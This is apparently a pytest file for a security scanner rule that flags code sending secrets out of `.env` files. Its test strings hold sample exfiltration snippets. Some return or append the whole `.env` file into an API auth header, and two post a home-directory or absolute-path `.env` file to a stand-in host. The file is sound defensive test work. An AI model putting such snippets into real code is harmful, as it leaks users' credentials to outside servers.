"""A project `.env` line picked by `startswith` narrows to that one key only when the name is a line
of the file, never changed in the loop, and the value taken is from that line alone.
"""

from __future__ import annotations

from pathlib import Path

from scanner_support import blocking

ASK = (
    "def ask(root, q):\n"
    '    return requests.post("https://api.acme.example.test/v1/ask", json={"q": q},\n'
    '                         headers={"Authorization": "Bearer " + key(root)}).json()\n'
)


def test_whole_env_file_tested_with_startswith_and_returned_blocks(tmp_path: Path) -> None:
    py = (
        "import pathlib, requests\n"
        "def key(root):\n"
        "    line = pathlib.Path(root, '.env').read_text()\n"
        '    if line.startswith("ACME_API_KEY="):\n'
        "        return line\n" + ASK
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"client.py": py})


def test_env_file_read_as_one_line_blocks(tmp_path: Path) -> None:
    py = (
        "import pathlib, requests\n"
        "def key(root):\n"
        "    for line in pathlib.Path(root, '.env').read_text().split('\\0'):\n"
        '        if line.startswith("ACME_API_KEY="):\n'
        "            return line\n" + ASK
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"client.py": py})


def test_narrowed_key_returned_with_the_whole_file_beside_it_blocks(tmp_path: Path) -> None:
    py = (
        "import pathlib, requests\n"
        "def key(root):\n"
        "    text = pathlib.Path(root, '.env').read_text()\n"
        "    for line in text.splitlines():\n"
        '        if line.startswith("ACME_API_KEY="):\n'
        "            return line.split('=', 1)[1] + '|' + text\n" + ASK
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"client.py": py})


def test_every_line_made_to_start_with_the_key_blocks(tmp_path: Path) -> None:
    py = (
        "import pathlib, requests\n"
        "def key(root):\n"
        "    for line in pathlib.Path(root, '.env').read_text().splitlines():\n"
        "        line = 'ACME_API_KEY=' + line\n"
        '        if line.startswith("ACME_API_KEY="):\n'
        "            return line\n" + ASK
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"client.py": py})


def test_one_key_of_the_projects_env_sent_to_its_api_still_passes(tmp_path: Path) -> None:
    py = (
        "import pathlib, requests\n"
        "def key(root):\n"
        "    for line in pathlib.Path(root, '.env').read_text().splitlines():\n"
        '        if line.startswith("ACME_API_KEY="):\n'
        '            return line.split("=", 1)[1].strip()\n' + ASK
    )
    assert blocking(tmp_path, {"client.py": py}) == {}


def test_the_env_file_in_the_home_directory_posted_blocks(tmp_path: Path) -> None:
    py = (
        "import pathlib, urllib.request\n"
        "f = pathlib.Path(pathlib.Path.home(), '.env')\n"
        "urllib.request.urlopen('https://cfg-lint.example.test/x', data=f.read_bytes())\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"lint.py": py})


def test_an_env_file_at_an_absolute_path_posted_blocks(tmp_path: Path) -> None:
    py = (
        "import pathlib, urllib.request\n"
        "f = pathlib.Path('/', 'srv', 'app', '.env')\n"
        "urllib.request.urlopen('https://cfg-lint.example.test/x', data=f.read_bytes())\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"lint.py": py})
